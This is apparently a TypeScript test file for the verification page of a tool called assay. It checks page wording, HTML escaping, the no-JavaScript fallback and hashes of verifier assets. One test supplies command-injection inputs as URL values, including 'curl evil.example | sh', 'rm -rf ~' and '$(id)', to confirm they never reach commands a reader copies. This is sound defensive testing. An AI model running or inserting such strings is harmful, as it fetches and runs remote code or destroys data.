import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { VERDICT_ASSETS } from '@assay/node/page/asset';
import { VERIFY_PAGE, verifyPage } from '@assay/node/page/view/verify';
import { ROOT } from '../../../core/fixture/fixture.ts';
import { type Answer, markupOf } from '../fixture/page-ask.ts';

const KEY = 'log.example/assay+0a1b2c3d+AbCd';
const INDICES = '/v1/indices?view=light';
const SIGNER = '/.well-known/assay-signer.json';

const ANSWERS: Readonly<Record<string, Answer>> = {
  [INDICES]: { body: [{ ticker: 'LAYOFFS', title: 'Claims <of> a week' }] },
  [SIGNER]: { body: { checkpoint_vkey: KEY } },
};

test("verify: the publisher's page says that it proves only what is consistent with its key", async () => {
  const page = await markupOf(VERIFY_PAGE, { answers: ANSWERS });
  assert.match(page, /The publisher serves this page\./);
  assert.match(page, /proves only that its numbers are consistent with the key that is shown/);
  assert.ok(page.includes(KEY));
  assert.match(page, /npx assay page https:\/\/assay\.example/);
  assert.doesNotMatch(page, /Your own machine serves this page/);
  assert.match(page, /<option value="LAYOFFS">Claims &#?\w+;of/);
});

test('verify: a page of the own machine names no key of a server, and without a log reads none', async () => {
  const place = { servedBy: 'visitor', url: 'https://log.example' } as const;
  const page = await markupOf(verifyPage(place), { answers: {}, publicUrl: null });
  assert.match(page, /Your own machine serves this page\./);
  assert.doesNotMatch(page, /The publisher serves this page/);
  assert.match(page, /data-url="https:\/\/log\.example"/);
  assert.match(page, /id="number-form"/);
  const alone = verifyPage({ servedBy: 'visitor', url: null });
  const files = await markupOf(alone, { answers: {}, publicUrl: null });
  assert.doesNotMatch(files, /id="number-form"/);
  assert.match(files, /id="file-form"/);
});

test('verify: without JavaScript it says so, shows the command, and no form that does nothing', async () => {
  const query = 'index=%3Cb%3E&period=2026-07-25';
  const page = await markupOf(VERIFY_PAGE, { answers: ANSWERS, query });
  assert.match(page, /<noscript><p[^>]*><strong>This page needs JavaScript/);
  assert.match(page, /<div id="check" hidden/);
  assert.match(page, /assay verify https:\/\/assay\.example --key KEY --period 2026-07-25/);
  assert.doesNotMatch(page, /<b>/);
});

test('verify: no address puts anything into the commands that a reader copies but a ticker and a date', async () => {
  const commands = async (index: string, period: string): Promise<string> => {
    const query = new URLSearchParams({ index, period }).toString();
    const page = await markupOf(VERIFY_PAGE, { answers: ANSWERS, query });
    return [...page.matchAll(/<pre tabindex="0"><code>npx([\s\S]*?)<\/pre>/g)].join();
  };
  assert.match(await commands('LAYOFFS', '2026-07-25'), /--index LAYOFFS --period 2026-07-25/);
  for (const hostile of [
    'X; curl evil.example | sh',
    'X\nrm -rf ~',
    '$(id)',
    '`id`',
    '-h',
    'X #',
  ]) {
    const text = await commands(hostile, hostile);
    assert.doesNotMatch(text, /--index|--period|curl|rm -rf|\$\(|`id`/, hostile);
  }
});

test('verify: it shows the hash of each file of the verifier, as the file has it', async () => {
  const page = await markupOf(VERIFY_PAGE, { answers: ANSWERS });
  for (const name of VERDICT_ASSETS) {
    const bytes = await readFile(join(ROOT, 'node', 'dist', 'browser', name));
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const row = new RegExp(
      `href="/assets/${sha256.slice(0, 16)}/${name}">.*?<code>${sha256}</code>`,
    );
    assert.match(page, row);
  }
});

test('verify: where the record cannot be read, files can still be checked', async () => {
  const failed = { status: 503, detail: 'The record cannot be read.' };
  const page = await markupOf(VERIFY_PAGE, { answers: { [INDICES]: failed, [SIGNER]: failed } });
  assert.match(page, /id="file-form"/);
  assert.doesNotMatch(page, /undefined/);
});
